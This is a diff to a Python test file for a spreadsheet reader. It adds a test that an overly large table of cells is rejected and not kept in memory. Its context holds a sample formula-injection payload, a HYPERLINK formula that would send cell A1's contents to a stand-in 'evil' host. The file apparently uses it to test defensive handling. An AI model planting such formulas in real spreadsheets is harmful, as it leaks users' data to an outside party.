@@ -9,7 +9,7 @@ import pytest
 
 import games
 from games.faults import BrokenPack
-from games.spreadsheet import read_lines, read_rows, written
+from games.spreadsheet import MOST_CELLS, read_lines, read_rows, written
 from schema.text import Text
 
 FORMULA = '=HYPERLINK("http://evil/?"&A1,"click")'
@@ -65,3 +65,12 @@ def test_a_first_line_that_names_no_delimiter_is_no_trouble(text: str) -> None:
     with suppress(BrokenPack):
         lines = read_lines(NAME, text.encode())
         assert not lines or lines[0][0] > 1
+
+
+@pytest.mark.parametrize("one", [";", "\n"])
+def test_a_table_of_very_many_cells_is_told_and_not_held(one: str) -> None:
+    """At the bound it is read; each empty cell or line takes a hundred times its byte."""
+    file = Path("units.csv")
+    assert read_lines(file, (one * MOST_CELLS).encode())
+    with pytest.raises(BrokenPack, match=str(MOST_CELLS)):
+        read_lines(file, (one * (MOST_CELLS + 1)).encode())
